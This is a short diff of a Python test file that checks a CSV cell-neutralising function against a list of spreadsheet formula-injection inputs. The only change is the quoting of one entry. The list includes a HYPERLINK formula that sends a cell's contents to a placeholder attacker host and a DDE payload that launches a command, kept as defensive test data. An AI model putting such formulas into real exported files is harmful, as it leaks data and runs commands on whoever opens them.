@@ -12,7 +12,7 @@ from pathlib import Path
 from scraperv4.commands.queue import neutralise_cell, write_csv
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1,1)",
